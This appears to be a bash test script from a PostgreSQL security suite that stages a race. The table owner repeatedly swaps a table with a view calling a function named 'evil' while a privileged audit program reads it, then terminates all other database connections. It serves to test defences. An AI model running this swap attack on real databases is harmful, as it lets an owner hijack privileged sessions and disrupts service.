#!/bin/bash
# SPDX-License-Identifier: MIT
# While somebody looks, a table becomes a view that calls its owner's function, and a table again.
. "${0%/*}/attack.sh"
trap_function
as owner <<<'CREATE VIEW public.other AS SELECT * FROM public.dynamic_links WHERE public.evil(NULL)'
as owner <<'SQL' 2>/dev/null &
DO $$ BEGIN
    FOR i IN 1..10000 LOOP
        ALTER TABLE public.dynamic_links RENAME TO aside; ALTER VIEW public.other RENAME TO dynamic_links; COMMIT;
        PERFORM pg_catalog.pg_sleep(0.003);
        ALTER VIEW public.dynamic_links RENAME TO other; ALTER TABLE public.aside RENAME TO dynamic_links; COMMIT;
        PERFORM pg_catalog.pg_sleep(0.003);
    END LOOP;
END $$;
SQL
for _ in 1 2 3 4 5 6 7 8; do
    program audit
    unmarked
done
value "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity
       WHERE datname = current_database() AND pid <> pg_backend_pid()" >/dev/null
wait || true
